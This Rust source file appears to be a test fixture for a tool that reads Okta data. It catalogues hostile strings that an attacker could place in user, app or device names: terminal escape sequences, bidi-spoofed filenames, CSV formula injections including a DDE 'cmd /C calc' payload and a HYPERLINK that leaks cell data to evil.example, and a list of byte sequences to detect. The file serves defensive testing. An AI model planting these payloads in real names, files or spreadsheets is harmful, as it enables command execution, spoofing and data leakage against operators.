//! The hostile strings: what an attacker who can name a user, an app, a group or a device
//! (or who controls a proxy in front of Okta) would put there to reach the operator's
//! terminal, spreadsheet or eyes.

/// Escape sequences a terminal obeys instead of printing: a window title, a hyperlink, a
/// screen clear, colours, queries the terminal answers on its input, DCS and APC strings,
/// and the 8-bit C1 forms of CSI and OSC.
pub const TERMINAL: &[&str] = &[
    "Ada\u{1b}]0;PWNED-title\u{7}Lovelace",
    "\u{1b}]8;;https://evil.example/\u{1b}\\Click me\u{1b}]8;;\u{1b}\\",
    "\u{1b}[2J\u{1b}[HPWNED-clear",
    "\u{1b}[31;5mPWNED-red\u{1b}[0m",
    "report\u{1b}[6n\u{1b}[21t\u{1b}[8;1;1tPWNED-query",
    "\u{1b}P+q544e\u{1b}\\\u{1b}_PWNED-apc\u{1b}\\",
    "c1\u{9b}31mPWNED-c1-csi",
    "c1\u{9d}0;PWNED-c1-title\u{9c}",
    "bell\u{7}back\u{8}\u{8}space\u{7f}nel\u{85}end",
    "line\r\nbreak\tand\u{0}nul",
];

/// Bidi controls and invisible characters: text that reads differently from what it is.
pub const HIDDEN: &[&str] = &[
    "invoice\u{202e}gnp.exe\u{202c}",
    "\u{2066}\u{2067}isolated\u{2068}\u{2069}",
    "zero\u{200b}width\u{200c}non\u{200d}joiner\u{2060}\u{feff}",
    "marks\u{200e}\u{200f}\u{61c}\u{180e}",
];

/// Spreadsheet formulas: a CSV cell that starts with one runs when the file is opened.
pub const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Details\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+2",
    "\r=1+2",
];

/// Logins an attacker could give a user: valid email addresses, each a formula or holding
/// an invisible or bidi character. `{domain}` stands for the org's domain.
pub const LOGINS: &[&str] =
    &["=2+5@{domain}", "+2-5@{domain}", "-2+3@{domain}", "zero\u{200b}width@{domain}", "admin\u{202e}nimda@{domain}"];

/// Byte sequences that prove hostile text went through raw: none may reach a terminal, a
/// file or any output format, whatever else is allowed there.
pub const INJECTED: &[(&str, &str)] = &[
    ("an OSC window title", "\u{1b}]0;"),
    ("an OSC 8 hyperlink", "\u{1b}]8;"),
    ("the injected screen clear", "\u{1b}[2J\u{1b}[HPWNED"),
    ("the injected colours", "\u{1b}[31;5m"),
    ("a device status query", "\u{1b}[6n"),
    ("a window title query", "\u{1b}[21t"),
    ("a window resize", "\u{1b}[8;1;1t"),
    ("a DCS string", "\u{1b}P"),
    ("an APC string", "\u{1b}_"),
    ("a C1 CSI", "\u{9b}"),
    ("a C1 OSC", "\u{9d}"),
    ("a C1 NEL", "\u{85}"),
];

/// Bytes of a "10 KB name".
pub const LONG_BYTES: usize = 10 * 1024;

/// Every hostile string of the catalogue, in a fixed order.
pub fn samples() -> impl Iterator<Item = &'static str> {
    TERMINAL.iter().chain(HIDDEN).chain(FORMULAS).copied()
}

/// The `n`th hostile string, going round the catalogue.
pub fn nth(n: usize) -> &'static str {
    let all = TERMINAL.len() + HIDDEN.len() + FORMULAS.len();
    samples().nth(n % all).unwrap_or_default()
}

/// A name of about [`LONG_BYTES`]: a formula, then every sort of hostile text over and over.
pub fn long() -> String {
    let mut text = String::from(FORMULAS[0]);
    let mut n = 0;
    while text.len() < LONG_BYTES {
        text.push_str(nth(n));
        text.push(' ');
        n += 1;
    }
    text
}
